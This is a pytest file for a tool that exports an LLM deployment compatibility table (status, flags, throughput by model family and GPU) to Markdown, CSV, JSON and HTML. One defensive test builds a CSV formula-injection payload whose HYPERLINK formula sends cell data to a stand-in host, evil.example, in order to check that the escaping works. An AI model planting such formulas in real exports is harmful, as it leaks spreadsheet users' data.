"""The compatibility table: grouping, status vocabulary, conflicts, the four renderings, the CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import agent.cli.commands.listing  # noqa: F401  (more than one command, as in the real CLI)
import agent.cli.commands.table as export_cmd
from agent.cli.app import app
from kb.errors import ExportError
from kb.export import (
    CSV_COLUMNS,
    EXPORT_SCHEMA_VERSION,
    MD_COLUMNS,
    STATUS_ORDER,
    FindingLinks,
    build_table,
    folder_links,
    github_anchor,
    model_family,
    quant_kind,
    status_label,
    table_to_dict,
    to_csv,
    to_json,
    to_markdown,
    write_export,
)
from kb.parse import parse_file
from kb.records import Finding, Fix, Framework, Hardware, Performance

REPO = Path(__file__).resolve().parent.parent
PRO6000 = Hardware(gpu="NVIDIA RTX PRO 6000 Blackwell", count=8, sm="sm120", interconnect="PCIe")


def seed_findings() -> list[Finding]:
    """The four deployments of the seed reports, with the facts the reports give (checked)."""
    return [
        Finding(
            id="qwen35-nvfp4-sm120",
            title="Qwen3.5-397B-A17B-NVFP4: NaN output on SM120, fixed by pinning FP4 backends",
            status="works-with-flags",
            model="nvidia/Qwen3.5-397B-A17B-NVFP4",
            architecture="qwen3_5_moe",
            quantization="nvfp4",
            hardware=PRO6000,
            framework=Framework("sglang", "main"),
            fix=Fix(
                add=(
                    "--moe-runner-backend flashinfer_cutlass",
                    "--fp4-gemm-runner-backend flashinfer_cudnn",
                )
            ),
            sources=("report: internal deployment report (seed 000), 8x RTX PRO 6000 Blackwell",),
        ),
        Finding(
            id="glm5-nvfp4-sm120",
            title="GLM-5-NVFP4: NaN probability tensor at first decode, unresolved",
            status="broken",
            date="2026-02-19",
            model="nvidia/GLM-5-NVFP4",
            architecture="glm_moe_dsa",
            quantization="nvfp4",
            hardware=PRO6000,
            framework=Framework("sglang", "main"),
            fix=Fix(
                add=("--disable-cuda-graph",),
                remove=("--kv-cache-dtype fp8_e4m3",),
                confirmed=False,
            ),
            tried_without_effect=("--fp8-gemm-backend cutlass",),
            sources=("report: internal deployment report (seed 003)", "sgl-project/sglang#14311"),
        ),
        Finding(
            id="kimi-k2-thinking-nvfp4-sm120",
            title="Kimi K2-Thinking NVFP4 serves correctly on the same machine",
            status="works",
            model="nvidia/Kimi-K2-Thinking-NVFP4",
            architecture="kimi_k2",
            quantization="nvfp4",
            hardware=PRO6000,
            framework=Framework("sglang"),
            fix=Fix(add=("--disable-cuda-graph", "--quantization modelopt_fp4")),
        ),
        Finding(
            id="kimi-k25-int4-eagle3-sm120",
            title="Kimi-K2.5 INT4 with EAGLE-3: 759 tok/s at concurrency 30",
            status="works",
            model="moonshotai/Kimi-K2.5",
            quantization="int4",
            hardware=PRO6000,
            framework=Framework("sglang"),
            performance=Performance(throughput_tok_s=759, concurrency=30, baseline="+10%"),
        ),
    ]


def finding(fid: str, status: str | None = "works", **kw) -> Finding:
    kw.setdefault("model", "org/Model-X")
    kw.setdefault("hardware", Hardware(gpu="NVIDIA H100", sm="sm90"))
    kw.setdefault("framework", Framework("vllm", "0.9.0"))
    return Finding(id=fid, title=f"title of {fid}", status=status, **kw)


def row_for(table, model: str, sm: str | None = None):
    (row,) = [r for r in table.rows if r.model == model and (sm is None or r.gpu_sm == sm)]
    return row


# --- status vocabulary ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "label"),
    [
        (None, "untested"),
        ("", "untested"),
        ("works", "works"),
        ("works-with-flags", "works-with-flags"),
        ("Works with flags", "works-with-flags"),
        ("partial", "partial"),
        ("broken", "broken"),
    ],
)
def test_status_label(status, label):
    assert status_label(status) == label


def test_absent_status_is_untested_never_works():
    table = build_table([finding("no-status", status=None)])
    assert table.rows[0].cell.status == "untested"
    assert "❔ untested" in to_markdown(table)
    assert "✅" not in to_markdown(table).split("Status:")[0]


def test_unknown_status_names_the_finding():
    bad = finding("odd", status="fine", path="findings/odd.md", line=1)
    with pytest.raises(ExportError) as exc:
        build_table([bad])
    assert str(exc.value) == (
        "findings/odd.md:1: status 'fine' is unknown: "
        "use works, works-with-flags, partial or broken"
    )


# --- grouping ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model", "architecture", "family"),
    [
        ("nvidia/Qwen3.5-397B-A17B-NVFP4", None, "Qwen3.5"),
        ("Qwen/Qwen3-32B-FP8", None, "Qwen3"),
        ("Qwen3.6-27B-FP8", "qwen3_5_text", "Qwen3.6"),
        (None, "qwen3_5_moe", "Qwen3.5"),
        ("nvidia/GLM-5-NVFP4", None, "GLM-5"),
        ("zai-org/GLM-5.2-FP8", None, "GLM-5"),
        ("moonshotai/Kimi-K2.5", None, "Kimi K2"),
        ("Kimi-K2-Thinking-NVFP4", None, "Kimi K2"),
        ("deepseek-ai/DeepSeek-V4-Pro", None, "DeepSeek"),
        ("nvidia/MiniMax-M2.7-NVFP4", None, "MiniMax"),
        ("openai/gpt-oss-120b", None, "gpt-oss"),
        ("tiiuae/Falcon3-7B-Instruct", None, "Falcon3"),
        ("deepseek-ai/DeepSeek-R1-Distill-Qwen-32B", None, "DeepSeek"),  # 32B is a size
        ("CohereForAI/c4ai-command-r-v01", None, "Command R"),
        ("hybrid-GDN NVFP4 model", None, "(other)"),
        (None, None, "(any)"),
    ],
)
def test_model_family(model, architecture, family):
    assert model_family(model, architecture) == family


def test_seed_deployments_each_get_a_row_with_their_flags():
    table = build_table(seed_findings())
    assert [(r.family, r.model) for r in table.rows] == [
        ("GLM-5", "nvidia/GLM-5-NVFP4"),
        ("Kimi K2", "nvidia/Kimi-K2-Thinking-NVFP4"),
        ("Kimi K2", "moonshotai/Kimi-K2.5"),
        ("Qwen3.5", "nvidia/Qwen3.5-397B-A17B-NVFP4"),
    ]
    qwen = row_for(table, "nvidia/Qwen3.5-397B-A17B-NVFP4")
    assert qwen.gpu_sm == "sm120"
    assert qwen.gpu_text == "8× NVIDIA RTX PRO 6000 Blackwell"
    assert qwen.cell.status == "works-with-flags"
    assert [f.display for f in qwen.cell.flags] == [
        "--moe-runner-backend flashinfer_cutlass",
        "--fp4-gemm-runner-backend flashinfer_cudnn",
    ]
    kimi = row_for(table, "moonshotai/Kimi-K2.5")
    assert kimi.cell.status == "works"
    assert kimi.cell.best.text == "759 tok/s @ 30"


def test_flags_list_removals_env_and_pins_as_written():
    fix = Fix(add=("--dtype bfloat16",), remove=("--dtype=half",), env=("A=1",), pins=("x==1.2",))
    cell = build_table([finding("f", "works-with-flags", fix=fix)]).rows[0].cell
    assert [f.display for f in cell.flags] == [
        "--dtype bfloat16",
        "drop --dtype=half",
        "A=1",
        "x==1.2",
    ]


def test_a_changed_value_is_shown_as_a_change_and_copied_as_its_new_setting():
    from kb.export_html import to_html

    fix = Fix(add=("--tp 8",), change=("--mem-fraction-static 0.9 -> 0.82",))
    table = build_table([finding("f", "works-with-flags", fix=fix)])
    assert [f.display for f in table.rows[0].cell.flags] == [
        "--tp 8",
        "--mem-fraction-static 0.9 → 0.82",
    ]
    row = table_to_dict(table)["rows"][0]
    assert row["fix"]["change"] == ["--mem-fraction-static 0.9 -> 0.82"]
    assert row["flags"][1] == "--mem-fraction-static 0.9 → 0.82"
    assert "`--mem-fraction-static 0.9 → 0.82`" in to_markdown(table)
    html = to_html(table)
    assert '<span class="kind k-change">change</span><code>--mem-fraction-static 0.9 → 0.82' in html
    assert 'data-copy="--mem-fraction-static 0.82"' in html
    assert 'data-copy="--tp 8 --mem-fraction-static 0.82"' in html  # copy all flags


def test_conflicting_findings_newest_first():
    old = finding("old-works", "works-with-flags", date="2026-02", fix=Fix(add=("--a",)))
    new = finding("new-breaks", "broken", date="2026-05", framework=Framework("vllm", "0.10.0"))
    table = build_table([old, new])
    (row,) = table.rows
    assert row.cell.conflict
    assert row.cell.status == "broken"  # the newest finding sets the status
    assert row.cell.status_text == (
        "conflicting: broken (2026-05, new-breaks) / works-with-flags (2026-02, old-works)"
    )
    assert row.framework_versions == ("0.10.0", "0.9.0")
    assert [f.display for f in row.cell.flags] == ["--a"]  # the flags that made it run
    assert [r.id for r in row.cell.findings] == ["new-breaks", "old-works"]
    assert row.cell.date == "2026-05"
    assert table.conflict_count == 1


def test_works_and_works_with_flags_do_not_conflict():
    table = build_table([finding("a", "works", date="2026-01"), finding("b", "works-with-flags")])
    (row,) = table.rows
    assert not row.cell.conflict
    assert row.cell.status == "works"
    assert row.cell.status_text == "works"


def test_findings_without_model_or_gpu_each_keep_a_row():
    no_model = finding("generic-1", model=None)
    no_model_2 = finding("generic-2", "broken", model=None)
    no_gpu = finding("no-gpu", hardware=Hardware())
    table = build_table([no_model, no_model_2, no_gpu])
    assert len(table.rows) == 3
    assert not any(r.cell.conflict for r in table.rows)
    assert {(r.model, r.gpu_sm) for r in table.rows} == {
        ("(any)", "sm90"),
        ("org/Model-X", "(unspecified)"),
    }


def test_best_throughput_is_the_highest_with_its_concurrency():
    a = finding("a", performance=Performance(throughput_tok_s=500, concurrency=8))
    b = finding("b", performance=Performance(throughput_tok_s=812.5, concurrency=64))
    cell = build_table([a, b]).rows[0].cell
    assert (cell.best.tok_s, cell.best.concurrency, cell.best.finding) == (812.5, 64, "b")
    assert cell.best.text == "812.5 tok/s @ 64"


def test_matrix_marks_missing_family_gpu_combinations_untested():
    table = build_table(
        [
            finding("q", model="Qwen/Qwen3-8B", hardware=Hardware(sm="sm90")),
            finding("g", "broken", model="zai-org/GLM-5-FP8", hardware=Hardware(sm="sm100")),
        ]
    )
    m = table.matrix
    assert (m.families, m.sms) == (("GLM-5", "Qwen3"), ("sm100", "sm90"))
    assert m.cell("Qwen3", "sm90").status == "works"
    assert m.cell("GLM-5", "sm100").status == "broken"
    assert m.cell("Qwen3", "sm100").status == "untested"
    assert m.cell("GLM-5", "sm90").status == "untested"
    assert m.cell("Qwen3", "sm90").findings == ("q",)
    assert m.cell("Qwen3", "sm100").findings == ()


def test_grid_says_conflicting_when_findings_disagree_across_or_within_rows():
    h100 = Hardware(gpu="NVIDIA H100", sm="sm90")
    table = build_table(
        [
            # two rows of one family on one GPU: one runs, one is broken
            finding("a", "works", model="org/Qwen3-8B", quantization="fp8", hardware=h100),
            finding("b", "broken", model="org/Qwen3-8B", quantization="int4", hardware=h100),
            # one row that regressed: works, then broken
            finding("c", "works", date="2026-01", model="org/GLM-5", hardware=h100),
            finding("d", "broken", date="2026-05", model="org/GLM-5", hardware=h100),
            # runs alike: the weaker word
            finding("e", "works", model="org/Kimi-K2", quantization="fp8", hardware=h100),
            finding(
                "f", "works-with-flags", model="org/Kimi-K2", quantization="int4", hardware=h100
            ),
        ]
    )
    m = table.matrix
    assert m.cell("Qwen3", "sm90").status == "conflicting"
    assert m.cell("GLM-5", "sm90").status == "conflicting"
    assert m.cell("Kimi K2", "sm90").status == "works-with-flags"
    assert sorted(m.cell("GLM-5", "sm90").findings) == ["c", "d"]
    for text in (to_markdown(table), to_json(table), to_csv(table)):
        assert "mixed" not in text  # one word for disagreement, everywhere


@pytest.mark.parametrize(
    ("quantization", "kind"),
    [
        ("nvfp4 (modelopt_fp4)", "nvfp4"),
        ("fp8, kv cache fp8", "fp8"),
        ("kv cache fp8", "none"),
        ("none (bf16)", "none"),
        ("mxfp4 (FP4 experts; the reporter calls the checkpoint NVFP4)", "mxfp4"),
        ("gptq int4", "gptq"),
        ("awq / w4a16", "awq"),
        ("w8a8_fp8, kv_cache_dtype fp8_e4m3", "fp8"),
        ("int4 w4a16 (compressed-tensors)", "int4"),
        ("bitsandbytes 4-bit", "bitsandbytes"),
        (None, "unspecified"),
    ],
)
def test_quantization_scheme_for_the_grid(quantization, kind):
    assert quant_kind(quantization) == kind


def test_sources_become_links_once_each():
    f = finding(
        "s",
        sources=(
            "https://github.com/sgl-project/sglang/issues/14311",
            "sgl-project/sglang#14311",
            "shared/seeds/003.txt",
        ),
    )
    ref = build_table([f]).rows[0].cell.findings[0]
    assert [(s.text, s.url) for s in ref.sources] == [
        ("sgl-project/sglang#14311", "https://github.com/sgl-project/sglang/issues/14311"),
        ("shared/seeds/003.txt", None),
    ]


# --- markdown ------------------------------------------------------------------------------------


def _split_row(line: str) -> list[str]:
    assert line.startswith("|") and line.endswith("|"), line
    return re.split(r"(?<!\\)\|", line[1:-1])


def _tables(text: str) -> list[list[str]]:
    blocks, current = [], []
    for line in text.splitlines():
        if line.startswith("|"):
            current.append(line)
        elif current:
            blocks.append(current)
            current = []
    if current:
        blocks.append(current)
    return blocks


def _check_gfm_table(lines: list[str]) -> int:
    """A table GitHub renders: header and separator of the same width, every row that width."""
    width = len(_split_row(lines[0]))
    assert len(_split_row(lines[1])) == width
    assert re.fullmatch(r"\|(---\|)+", lines[1])
    assert all(len(_split_row(line)) == width for line in lines), lines
    return width


def test_markdown_is_github_tables_with_escaped_cells():
    piped = finding("pipes", "works-with-flags", fix=Fix(add=("--x a|b",)), quantization="fp8|int4")
    text = to_markdown(build_table([*seed_findings(), piped]))
    grid, *families = _tables(text)
    assert _check_gfm_table(grid) == 1 + 1  # family and one GPU generation (sm120)
    for table in families:
        assert _check_gfm_table(table) == len(MD_COLUMNS)
    assert sum(len(t) - 2 for t in families) == 5
    assert r"fp8\|int4" in text and r"`--x a\|b`" in text
    # A real CommonMark/GFM renderer sees the same tables.
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert html.count("<table>") == 1 + len(families)
    assert html.count("<tr>") == sum(len(t) - 1 for t in [grid, *families])
    assert "<code>--x a|b</code>" in html
    assert "<td>fp8|int4</td>" in html


def test_markdown_grid_comes_first_and_links_to_the_rows_by_family():
    text = to_markdown(build_table(seed_findings()))
    headings = re.findall(r"^#+ (.*)$", text, re.M)
    assert headings == [
        "Compatibility",
        "Compatibility grid: model family × GPU",
        "Deployments by model family",
        "GLM-5",
        "Kimi K2",
        "Qwen3.5",
    ]
    grid = _tables(text)[0]
    kimi = next(_split_row(line) for line in grid if "Kimi K2" in line)
    # two Kimi K2 deployments on sm120, both work: the count of findings links to their rows
    assert [c.strip() for c in kimi] == ["[Kimi K2](#kimi-k2)", "✅ works · [2](#kimi-k2)"]
    sections = text.split("#### ")
    assert "moonshotai/Kimi-K2.5" in sections[2] and "nvidia/GLM-5-NVFP4" not in sections[2]


@pytest.mark.parametrize(
    ("heading", "anchor"),
    [
        ("GLM-5", "glm-5"),
        ("Kimi K2", "kimi-k2"),
        ("Qwen3.5", "qwen35"),
        ("gpt-oss", "gpt-oss"),
        ("Compatibility grid: model family × GPU", "compatibility-grid-model-family--gpu"),
    ],
)
def test_github_anchor(heading, anchor):
    assert github_anchor(heading) == anchor


def test_github_anchor_repeats_get_a_number():
    taken: set[str] = set()
    assert [github_anchor("Qwen3.5", taken) for _ in range(3)] == ["qwen35", "qwen35-1", "qwen35-2"]


def test_markdown_shows_seed_flags_links_and_throughput():
    text = to_markdown(build_table(seed_findings()), link_base="findings/")
    assert "drop --kv-cache-dtype fp8_e4m3" in text  # GLM-5's unconfirmed plan
    assert "--fp8-gemm-backend cutlass" not in text  # a dead end, never shown as a fix
    assert "`--moe-runner-backend flashinfer_cutlass`" in text
    assert "`--disable-cuda-graph`" in text
    assert "759 tok/s @ 30" in text
    assert "[glm5-nvfp4-sm120](findings/glm5-nvfp4-sm120.md)" in text
    assert "[sgl-project/sglang#14311](https://github.com/sgl-project/sglang/issues/14311)" in text


def test_markdown_of_an_empty_table_still_has_the_header():
    text = to_markdown(build_table([]))
    (main,) = _tables(text)
    assert len(main) == 2
    _check_gfm_table(main)
    assert "_No findings match these filters._" in text


# --- csv and json --------------------------------------------------------------------------------


def test_csv_parses_with_the_documented_columns():
    text = to_csv(build_table(seed_findings()))
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    rows = list(reader)
    assert len(rows) == 4
    kimi = next(r for r in rows if r["model"] == "moonshotai/Kimi-K2.5")
    assert (kimi["throughput_tok_s"], kimi["concurrency"], kimi["status"]) == ("759", "30", "works")
    glm = next(r for r in rows if r["model"] == "nvidia/GLM-5-NVFP4")
    # never a formula in a spreadsheet: a cell starting with "-" gets a leading "'"
    assert glm["flags"] == "'--disable-cuda-graph; drop --kv-cache-dtype fp8_e4m3"
    assert (glm["gpu_sm"], glm["status"]) == ("sm120", "broken")
    assert glm["sources"] == (
        "report: internal deployment report (seed 003); "
        "https://github.com/sgl-project/sglang/issues/14311"
    )


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_no_csv_cell_of_any_column_runs_as_a_formula(start):
    """Every column the CSV writes, given a value that a spreadsheet would run as a formula
    (numbers can only start with '-'), is written as text: a leading "'"."""
    from kb.export import (
        Cell,
        CompatTable,
        FindingRef,
        FlagItem,
        Matrix,
        Row,
        SourceLink,
        Throughput,
    )

    bad = start + 'HYPERLINK("https://evil.example/?"&A1;"x")'
    ref = FindingRef(
        id=bad, title=bad, status=bad, date=bad, file="x.md", sources=(SourceLink(bad, None),)
    )
    cell = Cell(status=bad, conflict=False, history=(), flags=(FlagItem("add", bad),),
                best=Throughput(-1.5, -3, bad), date=bad, findings=(ref,))  # fmt: skip
    row = Row(family=bad, architecture=bad, model=bad, gpu_sm=bad, gpu_names=(bad,),
              gpu_counts=(-8,), quantization=bad, framework=bad, framework_versions=(bad,),
              cell=cell)  # fmt: skip
    table = CompatTable(rows=(row,), matrix=Matrix((), (), ()), finding_count=1)
    header, values = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    numbers = {"gpu_count": "'-8", "throughput_tok_s": "'-1.5", "concurrency": "'-3"}
    expected = {c: numbers.get(c, "'" + bad) for c in CSV_COLUMNS}
    expected["conflict"] = ""  # "conflicting: ..." or nothing: never a formula
    assert tuple(header) == CSV_COLUMNS
    assert dict(zip(header, values, strict=True)) == expected
    assert not any(v.startswith(FORMULA_STARTS) for v in values)


def test_json_schema():
    doc = json.loads(to_json(build_table(seed_findings(), generated="2026-06-01")))
    assert doc["schema_version"] == EXPORT_SCHEMA_VERSION == 3
    assert doc["generated"] == "2026-06-01"
    assert doc["statuses"] == list(STATUS_ORDER)
    assert doc["counts"]["rows"] == 4 and doc["counts"]["findings"] == 4
    kimi = next(r for r in doc["rows"] if r["model"] == "moonshotai/Kimi-K2.5")
    assert kimi["best_throughput"] == {
        "tok_s": 759.0,
        "concurrency": 30,
        "finding": "kimi-k25-int4-eagle3-sm120",
    }
    qwen = next(r for r in doc["rows"] if r["family"] == "Qwen3.5")
    assert qwen["fix"]["add"] == [
        "--moe-runner-backend flashinfer_cutlass",
        "--fp4-gemm-runner-backend flashinfer_cudnn",
    ]
    assert qwen["gpu"] == {
        "sm": "sm120",
        "names": ["NVIDIA RTX PRO 6000 Blackwell"],
        "counts": [8],
    }
    assert qwen["findings"][0]["link"] == "findings/qwen35-nvfp4-sm120.md"  # no file known
    cell = next(c for c in doc["matrix"]["cells"] if c["family"] == "Kimi K2")
    assert cell == {
        "family": "Kimi K2",
        "sm": "sm120",
        "status": "works",
        "counts": {"works": 2},
        "findings": ["kimi-k2-thinking-nvfp4-sm120", "kimi-k25-int4-eagle3-sm120"],
    }


# --- links ---------------------------------------------------------------------------------------


def test_links_default_to_the_findings_own_file(tmp_path):
    team = tmp_path / "team kb"
    f = finding("ours", path=str(team / "sub" / "ours.md"))
    ref = build_table([f]).rows[0].cell.findings[0]
    assert FindingLinks()(ref) == (team / "sub" / "ours.md").as_uri()
    assert FindingLinks()(ref).startswith("file:///") and "team%20kb" in FindingLinks()(ref)


def test_link_base_per_folder(tmp_path):
    shipped, team = tmp_path / "shipped", tmp_path / "team"
    shipped.mkdir()
    (team / "gpu").mkdir(parents=True)
    links = folder_links(
        ["https://github.com/org/kb/blob/main/findings", f"{team}=https://git.example/team/kb/"],
        shipped,
    )
    ours = finding("ours", path=str(shipped / "ours.md"))
    theirs = finding("theirs", path=str(team / "gpu" / "their finding.md"))
    elsewhere = finding("elsewhere", path=str(tmp_path / "other" / "x.md"))
    refs = {
        r.id: r for row in build_table([ours, theirs, elsewhere]).rows for r in row.cell.findings
    }
    assert links(refs["ours"]) == "https://github.com/org/kb/blob/main/findings/ours.md"
    assert links(refs["theirs"]) == "https://git.example/team/kb/gpu/their%20finding.md"
    assert links(refs["elsewhere"]) == (tmp_path / "other" / "x.md").as_uri()


def test_link_base_two_addresses_for_one_folder(tmp_path):
    with pytest.raises(ExportError) as exc:
        folder_links(["https://a.example/", f"{tmp_path}=https://b.example/"], tmp_path)
    assert str(exc.value) == (
        f"--link-base '{tmp_path}=https://b.example/': {tmp_path.resolve()} already links to "
        "'https://a.example/'; give one address per folder"
    )


def test_link_base_folder_that_does_not_exist(tmp_path):
    with pytest.raises(ExportError) as exc:
        folder_links(["nope=https://x/"], tmp_path, tmp_path)
    assert str(exc.value) == (
        "--link-base 'nope=https://x/': 'nope' is not a folder; "
        "write FOLDER=URL or a plain URL for the shipped findings"
    )


def test_docs_list_every_csv_column_and_json_key():
    doc = (REPO / "docs" / "export.md").read_text()
    for column in CSV_COLUMNS:
        assert f"| `{column}` |" in doc, column
    data = table_to_dict(build_table(seed_findings()))
    keys = set(data) | set(data["rows"][0]) | set(data["rows"][0]["findings"][0])
    for key in keys:
        assert f"`{key}`" in doc, key


# --- writing -------------------------------------------------------------------------------------


def test_write_export_replaces_atomically(tmp_path):
    target = tmp_path / "compat.md"
    target.write_text("old")
    write_export(target, "new\n")
    assert target.read_text() == "new\n"
    assert [p.name for p in tmp_path.iterdir()] == ["compat.md"]


def test_write_export_to_a_missing_folder(tmp_path):
    target = tmp_path / "missing" / "compat.html"
    with pytest.raises(ExportError) as exc:
        write_export(target, "x")
    assert str(exc.value) == (
        f"{target}: cannot write the export: folder '{target.parent}' does not exist"
    )


def test_write_export_onto_a_folder_leaves_nothing_behind(tmp_path):
    (tmp_path / "out").mkdir()
    with pytest.raises(ExportError, match=r"out: cannot write the export: "):
        write_export(tmp_path / "out", "x")
    assert [p.name for p in tmp_path.iterdir()] == ["out"]
    assert list((tmp_path / "out").iterdir()) == []


# --- CLI -----------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _no_user_settings(monkeypatch):
    """The user's own folders and link settings do not leak into the CLI tests."""
    for name in ("DEPLOYKB_FINDINGS", "DEPLOYKB_LINK_BASE", "DEPLOYKB_EMBEDDER", "DEPLOYKB_DB"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def fake_index(monkeypatch):
    """The CLI with the index replaced by the seed findings; records the filters it passed."""
    calls = []

    def load(db_path, findings_dirs=None, embedder="auto", **filters):
        calls.append(filters)
        found = seed_findings()
        if filters.get("model"):
            found = [f for f in found if filters["model"].lower() in (f.model or "").lower()]
        return found

    monkeypatch.setattr(export_cmd, "_load_findings", load)
    return calls


runner = CliRunner()


def test_cli_default_is_markdown_on_stdout(fake_index, tmp_path):
    result = runner.invoke(app, ["export", "--db", str(tmp_path / "kb.db")])
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("## Compatibility")
    assert "759 tok/s @ 30" in result.stdout
    assert fake_index == [{"model": None, "gpu": None, "status": None, "framework": None}]


def test_cli_writes_the_format_of_the_output_suffix(fake_index, tmp_path):
    out = tmp_path / "compat.json"
    result = runner.invoke(app, ["export", "-o", str(out), "--model", "GLM"])
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    doc = json.loads(out.read_text())
    assert [r["model"] for r in doc["rows"]] == ["nvidia/GLM-5-NVFP4"]
    assert doc["filters"] == {"model": "GLM"}
    assert f"Wrote {out} (json, 1 rows from 1 findings)." in result.stderr


def test_cli_passes_filters_to_the_store(fake_index):
    result = runner.invoke(
        app,
        [
            "export",
            "--format",
            "csv",
            "--gpu",
            "sm120",
            "--framework",
            "sglang",
            "--status",
            "works-with-flags",
        ],
    )
    assert result.exit_code == 0, result.output
    assert fake_index == [
        {"model": None, "gpu": "sm120", "status": "works-with-flags", "framework": "sglang"}
    ]


def test_cli_unknown_format(fake_index):
    result = runner.invoke(app, ["export", "--format", "pdf"])
    assert result.exit_code == 2
    assert result.stderr == "Error: --format 'pdf': choose md, csv, json or html\n"
    assert fake_index == []  # nothing was read


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-o", "{tmp}/x.xlsx"], "{tmp}/x.xlsx: export writes .md, .csv, .json or .html, not "
         ".xlsx; choose one of those or pass --format"),
        (["-o", "{tmp}/x.json", "--format", "csv"], "{tmp}/x.json: --format csv writes .csv, not .json"),
        (["-o", "{tmp}/x.pdf", "--format", "html"], "{tmp}/x.pdf: --format html writes .html or .htm, not .pdf"),
    ],
)  # fmt: skip
def test_cli_refuses_an_extension_it_does_not_write(fake_index, tmp_path, args, message):
    result = runner.invoke(app, ["export", *(a.format(tmp=tmp_path) for a in args)])
    assert result.exit_code == 2
    assert result.stderr == f"Error: {message.format(tmp=tmp_path)}\n"
    assert fake_index == []  # nothing was read
    assert list(tmp_path.iterdir()) == []  # nothing was written


def test_cli_text_file_with_a_format(fake_index, tmp_path):
    out = tmp_path / "compat.txt"
    result = runner.invoke(app, ["export", "-o", str(out), "--format", "md"])
    assert result.exit_code == 0, result.output
    assert out.read_text().startswith("## Compatibility")


def test_cli_unknown_status(fake_index):
    result = runner.invoke(app, ["export", "--status", "fine"])
    assert result.exit_code == 2
    assert result.stderr == (
        "Error: --status 'fine': choose works, works-with-flags, partial or broken\n"
    )


def test_cli_unwritable_output(fake_index, tmp_path):
    out = tmp_path / "nope" / "compat.html"
    result = runner.invoke(app, ["export", "--format", "html", "-o", str(out)])
    assert result.exit_code == 2
    assert result.stderr == (
        f"Error: {out}: cannot write the export: folder '{out.parent}' does not exist\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_cli_filters_matching_nothing(fake_index):
    result = runner.invoke(app, ["export", "--model", "Llama-9"])
    assert result.exit_code == 0
    assert result.stderr == "No findings match --model 'Llama-9'; the table is empty.\n"
    (main,) = _tables(result.stdout)
    assert len(main) == 2  # header and separator


def test_cli_without_an_index(tmp_path):
    db = tmp_path / "missing.db"
    result = runner.invoke(app, ["export", "--db", str(db)])
    assert result.exit_code == 3
    assert result.stderr == f"Error: no index at {db}; run `deploykb ingest`\n"
    assert not db.exists()


# --- the shipped knowledge base ------------------------------------------------------------------


def _shipped() -> list[Finding]:
    files = sorted(p for p in (REPO / "findings").glob("*.md") if p.name != "README.md")
    assert len(files) >= 150, "the shipped knowledge base is missing"
    return [f for p in files for f in parse_file(p).findings]


def test_shipped_findings_export_with_the_seed_deployments():
    findings = _shipped()
    table = build_table(findings)
    assert sum(len(r.cell.findings) for r in table.rows) == len(findings)
    text = to_markdown(table)
    for f in findings:  # each finding linked to its own file, wherever the page is opened
        assert f"[{f.id}]({Path(os.path.abspath(f.path)).as_uri()})" in text
    seeds = {
        "nvidia/Qwen3.5-397B-A17B-NVFP4": "--fp4-gemm-runner-backend flashinfer_cudnn",
        "Kimi-K2-Thinking-NVFP4": "--disable-cuda-graph",
    }

    # other findings (recipes) cover the same models on other GPUs: the seeds are the sm120 rows
    def sm120_row(model: str):
        return row_for(table, model, "sm120")

    for model, flag in seeds.items():
        assert flag in [f.display for f in sm120_row(model).cell.flags]
    # GLM-5 is unresolved in the seeds: broken, and --fp8-gemm-backend cutlass was a dead end
    glm5 = sm120_row("nvidia/GLM-5-NVFP4")
    assert glm5.cell.status == "broken"
    assert "--fp8-gemm-backend cutlass" not in [f.display for f in glm5.cell.flags]
    kimi = next(r for r in table.rows if r.model.startswith("Kimi-K2.5") and r.gpu_sm == "sm120")
    assert kimi.cell.best.text == "759 tok/s @ 30"
    for table in _tables(text):
        _check_gfm_table(table)


def test_cli_on_a_real_index_of_the_shipped_findings(tmp_path):
    _shipped()
    from kb.embed import HashEmbedder
    from kb.ingest import ingest
    from kb.store import open_db

    db = tmp_path / "kb.db"
    report = ingest(
        open_db(db), [REPO / "findings"], HashEmbedder, embedder_name=HashEmbedder().name
    )
    assert not report.errors
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "json", "--gpu", "sm120"])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert doc["rows"] and all(r["gpu"]["sm"] == "sm120" for r in doc["rows"])
    models = {r["model"] for r in doc["rows"]}
    assert {"nvidia/GLM-5-NVFP4", "nvidia/Qwen3.5-397B-A17B-NVFP4"} <= models


def test_cli_findings_folder_is_indexed_and_linked_to_its_own_folder(tmp_path, findings_dir):
    """`export --findings TEAM` like `ask`: the team folder is indexed beside the shipped
    findings, and its findings link into it (file://, or the --link-base given for it)."""
    _shipped()
    db = tmp_path / "kb.db"
    team_ids = {p.stem for p in findings_dir.glob("*.md") if p.name != "README.md"}
    args = ["export", "--db", str(db), "--format", "json", "--embedder", "hash"]
    result = runner.invoke(app, [*args, "--findings", str(findings_dir)])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    links = {f["id"]: f["link"] for r in doc["rows"] for f in r["findings"]}
    assert team_ids <= set(links)
    assert "glm5-nvfp4-sm120-deepgemm-ue8m0-nan" in links  # and the shipped ones
    for fid in team_ids:
        assert links[fid].startswith(findings_dir.resolve().as_uri() + "/"), links[fid]
    shipped_link = links["glm5-nvfp4-sm120-deepgemm-ue8m0-nan"]
    assert shipped_link.startswith("file:///") and shipped_link.endswith(".md")

    result = runner.invoke(
        app,
        [*args, "--findings", str(findings_dir),
         "--link-base", f"{findings_dir}=https://git.example/team/kb/blob/main/",
         "--link-base", "https://github.com/org/deploykb/blob/main/findings/"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    links = {f["id"]: f["link"] for r in json.loads(result.stdout)["rows"] for f in r["findings"]}
    for fid in team_ids:
        assert links[fid].startswith("https://git.example/team/kb/blob/main/"), links[fid]
